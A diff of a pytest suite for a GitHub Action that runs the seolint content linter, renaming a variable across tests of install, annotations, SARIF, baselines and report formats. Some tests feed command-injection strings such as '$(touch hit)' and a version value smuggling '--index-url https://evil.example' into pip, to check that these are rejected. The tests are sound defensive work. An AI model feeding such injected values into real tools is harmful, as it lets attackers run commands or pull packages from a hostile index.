@@ -64,9 +64,9 @@ def installed(tmp_path_factory: pytest.TempPathFactory) -> Runner:
     hostile = {"venv.py": "raise SystemExit('run')\n", "pip.py": "raise SystemExit('run')\n"}
     site = repository(folder / "site", {"posts/a.md": PAGE, "my posts/ä b.md": PAGE, **hostile})
     runner = Runner(folder, site, folder / "action dir", {})
-    told = step(INSTALL, runner, DEFAULTS)
-    assert told.code == 0, told.out + told.err
-    return runner._replace(installed=told.outputs)
+    result = step(INSTALL, runner, DEFAULTS)
+    assert result.code == 0, result.out + result.err
+    return runner._replace(installed=result.outputs)
 
 
 @pytest.fixture
@@ -79,15 +79,15 @@ def runner(installed: Runner) -> Runner:
     return installed
 
 
-def annotated(told: Ran) -> list[tuple[str, str]]:
+def annotated(result: Ran) -> list[tuple[str, str]]:
     """File and rule of each annotation."""
-    return re.findall(r"^::\w+ file=([^,]+),.*?title=([^:]+)::", told.out, re.MULTILINE)
+    return re.findall(r"^::\w+ file=([^,]+),.*?title=([^:]+)::", result.out, re.MULTILINE)
 
 
 def test_schema() -> None:
     command = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.github-actions", "action.yml"]
-    told = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=False)
-    assert told.returncode == 0, told.stdout
+    result = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=False)
+    assert result.returncode == 0, result.stdout
 
 
 def test_no_input_is_part_of_a_script() -> None:
@@ -99,13 +99,13 @@ def test_no_input_is_part_of_a_script() -> None:
 
 
 def test_annotations_summary_and_sarif(runner: Runner) -> None:
-    told = runner.lint()
-    assert (told.code, told.err) == (1, "")
-    assert ("posts/a.md", "placeholder-text") in annotated(told)
-    assert ("my posts/ä b.md", "placeholder-text") in annotated(told)
+    result = runner.lint()
+    assert (result.code, result.err) == (1, "")
+    assert ("posts/a.md", "placeholder-text") in annotated(result)
+    assert ("my posts/ä b.md", "placeholder-text") in annotated(result)
     assert runner.summary.read_text("utf-8").startswith("### seolint: ")
     value = ACTION["outputs"]["sarif"]["value"]
-    sarif = Path(filled(value, {f"steps.lint.outputs.{name}": path for name, path in told.outputs.items()}))
+    sarif = Path(filled(value, {f"steps.lint.outputs.{name}": path for name, path in result.outputs.items()}))
     assert "placeholder-text" in {result["ruleId"] for result in json.loads(sarif.read_text())["runs"][0]["results"]}
 
 
@@ -126,24 +126,24 @@ def test_paths(runner: Runner, paths: str, files: set[str]) -> None:
 @pytest.mark.parametrize("text", ["$(touch hit)", "`touch hit`", '"; touch hit; "', "a\n; touch hit", "--help", "*"])
 def test_inputs_are_no_commands(runner: Runner, text: str) -> None:
     for name in ("paths", "config", "format", "diff", "baseline", "fail_on", "min_severity"):
-        told = runner.lint(**{name: text})
-        assert told.code == 2, f"{name}: {told.out}"
+        result = runner.lint(**{name: text})
+        assert result.code == 2, f"{name}: {result.out}"
         assert not (runner.site / "hit").exists()
 
 
 def test_only_what_changed(runner: Runner) -> None:
     write(runner.site, {"posts/a.md": f"{PAGE}\nTODO: write more about this.\n"})
-    told = runner.lint(diff="main")
-    assert {(file, rule) for file, rule in annotated(told) if rule == "placeholder-text"} == {
+    result = runner.lint(diff="main")
+    assert {(file, rule) for file, rule in annotated(result) if rule == "placeholder-text"} == {
         ("posts/a.md", "placeholder-text")
     }
-    assert told.code == 1
+    assert result.code == 1
     assert runner.lint(diff="main", fail_on="never").code == 0
 
 
 def test_beside_a_baseline_and_with_a_config(runner: Runner) -> None:
-    told = run(f'"{runner.installed["seolint"]}" baseline --output "known problems"', runner.site, {})
-    assert told.code == 0, told.err
+    result = run(f'"{runner.installed["seolint"]}" baseline --output "known problems"', runner.site, {})
+    assert result.code == 0, result.err
     assert runner.lint(baseline="known problems").code == 0
     write(runner.site, {"posts/a.md": f"{PAGE}\nTODO: write more about this.\n", "my.yml": "rules: {content: off}\n"})
     assert [rule for _, rule in annotated(runner.lint(baseline="known problems"))] == ["placeholder-text"]
@@ -151,25 +151,25 @@ def test_beside_a_baseline_and_with_a_config(runner: Runner) -> None:
 
 
 def test_several_formats(runner: Runner) -> None:
-    told = runner.lint(format="text\njunit=my report.xml", paths="posts")
-    assert "posts/a.md:7:1  error    placeholder-text" in told.out
+    result = runner.lint(format="text\njunit=my report.xml", paths="posts")
+    assert "posts/a.md:7:1  error    placeholder-text" in result.out
     assert "<testsuites" in (runner.site / "my report.xml").read_text("utf-8")
-    assert told.outputs["sarif"]
+    assert result.outputs["sarif"]
 
 
 def test_what_went_wrong_is_told(runner: Runner) -> None:
-    told = runner.lint(baseline="none")
-    assert (told.code, told.outputs) == (2, {})
-    assert "none: there is no such file" in told.err
-    told = runner.lint(paths="none.md\nposts")
-    assert told.code == 2
-    assert told.outputs["sarif"], "what could be read is reported"
+    result = runner.lint(baseline="none")
+    assert (result.code, result.outputs) == (2, {})
+    assert "none: there is no such file" in result.err
+    result = runner.lint(paths="none.md\nposts")
+    assert result.code == 2
+    assert result.outputs["sarif"], "what could be read is reported"
 
 
 def test_a_version_of_the_package(installed: Runner, wheels: Path) -> None:
     (wheel,) = wheels.glob("seolint_content-*.whl")
-    told = step(INSTALL, installed, {**DEFAULTS, "inputs.version": wheel.name.split("-")[1]})
-    assert told.code == 0, told.err
+    result = step(INSTALL, installed, {**DEFAULTS, "inputs.version": wheel.name.split("-")[1]})
+    assert result.code == 0, result.err
 
 
 BORROWED = f"""\
@@ -183,16 +183,16 @@ def test_a_version_is_no_option_of_pip(installed: Runner, tmp_path: Path) -> Non
     (tmp_path / "python3").write_text(BORROWED, "utf-8")
     (tmp_path / "python3").chmod(0o755)
     borrowed = {**INSTALL, "run": f"PATH={tmp_path}:$PATH\n{INSTALL['run']}"}
-    told = step(borrowed, installed, {**DEFAULTS, "inputs.version": "0 --index-url https://evil.example"})
-    assert told.code != 0
-    assert "Invalid requirement" in told.err
+    result = step(borrowed, installed, {**DEFAULTS, "inputs.version": "0 --index-url https://evil.example"})
+    assert result.code != 0
+    assert "Invalid requirement" in result.err
 
 
 def test_a_machine_without_python(installed: Runner) -> None:
     bare = {**INSTALL, "run": f"PATH=\n{INSTALL['run']}"}
-    told = step(bare, installed, DEFAULTS)
-    assert (told.code, told.out.count("\n"), told.err) == (2, 1, "")
-    assert told.out.startswith("::error title=seolint::there is no Python here; put actions/setup-python before")
+    result = step(bare, installed, DEFAULTS)
+    assert (result.code, result.out.count("\n"), result.err) == (2, 1, "")
+    assert result.out.startswith("::error title=seolint::there is no Python here; put actions/setup-python before")
 
 
 def test_a_commit_is_left_alone(runner: Runner) -> None:
